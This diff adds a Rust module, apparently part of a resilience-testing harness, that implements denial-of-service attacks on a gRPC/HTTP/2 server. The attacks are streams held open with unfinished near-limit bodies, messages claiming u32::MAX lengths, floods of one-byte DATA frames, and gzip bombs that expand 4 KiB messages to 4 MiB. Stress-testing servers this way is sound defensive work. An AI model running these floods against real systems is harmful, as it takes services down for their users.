@@ -1,0 +1,115 @@
+//! Attacks by what calls bring.
+
+use std::{
+    io::{self, Write},
+    net::SocketAddr,
+};
+
+use bytes::Bytes;
+use flate2::{Compression, write::GzEncoder};
+use h2::client;
+use http::Request;
+
+use super::{
+    on_each,
+    wire::{
+        DATA, END_HEADERS, END_STREAM, HEADERS, READ, Wire, announced, call, field, frame, head, ids, socket,
+    },
+};
+
+const MIB: usize = 1 << 20;
+/// The most that a message may have, unless the server is set otherwise.
+const LIMIT: usize = 4 * MIB;
+
+/// Sends `body`, and no end of it, on so many streams of one connection.
+async fn unfinished(to: SocketAddr, streams: usize, body: Bytes) -> io::Result<()> {
+    let (send, connection) = client::handshake(socket(to).await?).await.map_err(io::Error::other)?;
+    let sending = tokio::spawn(async move {
+        let mut held = Vec::new();
+        for _ in 0..streams {
+            let Ok(mut send) = send.clone().ready().await else { break };
+            let request = Request::post(format!("http://target{READ}"))
+                .header("content-type", "application/grpc")
+                .body(())
+                .map_err(io::Error::other)?;
+            let Ok((response, mut stream)) = send.send_request(request, false) else { break };
+            let _ = stream.send_data(body.clone(), false);
+            held.push((response, stream));
+        }
+        super::keep(held).await;
+        io::Result::Ok(())
+    });
+    let ended = connection.await;
+    sending.abort();
+    ended.map_err(io::Error::other)
+}
+
+/// 200 messages of almost the limit, of which the last byte does not come.
+pub(super) async fn endless_bodies(to: SocketAddr) {
+    let mut body = announced(LIMIT - 64);
+    body.resize(LIMIT - 64, 0);
+    let body = Bytes::from(body);
+    on_each(20, || unfinished(to, 10, body.clone())).await;
+}
+
+/// Messages that are announced with more than there may be.
+pub(super) async fn beyond_the_limit(to: SocketAddr) {
+    let mut body = announced(u32::MAX as usize);
+    body.resize(MIB, 0);
+    let body = Bytes::from(body);
+    on_each(20, || unfinished(to, 50, body.clone())).await;
+}
+
+/// A message's bytes in frames of their own: each costs the server much more
+/// than itself. Some connections first take whatever room there is.
+pub(super) async fn small_frames(to: SocketAddr) {
+    let small = on_each(40, || async move {
+        let mut wire = Wire::open(to, &[]).await?;
+        wire.send(&call(READ, 1)).await?;
+        wire.send(&frame(DATA, 0, 1, &announced(MIB))).await?;
+        for _ in 0..1_000 {
+            wire.send(&frame(DATA, 0, 1, &[0]).repeat(1_000)).await?;
+        }
+        wire.hold().await
+    });
+    tokio::join!(endless_bodies(to), small);
+}
+
+/// Messages of 4 KiB that become 4 MiB.
+pub(super) async fn gzip_bombs(to: SocketAddr) {
+    let Ok(bomb) = bomb() else { return };
+    let mut message = announced(bomb.len());
+    message[0] = 1;
+    message.extend(bomb);
+    let mut head = head(READ);
+    head.extend(field("grpc-encoding", "gzip"));
+    let bytes: Vec<u8> = ids(20)
+        .flat_map(|id| {
+            [
+                frame(HEADERS, END_HEADERS, id, &head),
+                frame(DATA, END_STREAM, id, &message),
+            ]
+            .concat()
+        })
+        .collect();
+    on_each(10, || {
+        let bytes = bytes.clone();
+        async move {
+            let mut wire = Wire::open(to, &[]).await?;
+            wire.send(&bytes).await?;
+            // Anew once these have had their time.
+            let _ = tokio::time::timeout(std::time::Duration::from_millis(500), wire.hold()).await;
+            Ok(())
+        }
+    })
+    .await;
+}
+
+/// The most that a message may become, in little.
+fn bomb() -> io::Result<Vec<u8>> {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
+    // An unknown field of protobuf, as long as a message may be.
+    encoder.write_all(&[0x7a, 0xf0, 0xff, 0xff, 0x01])?;
+    encoder.write_all(&vec![0; LIMIT - 16])?;
+    encoder.finish()
+}
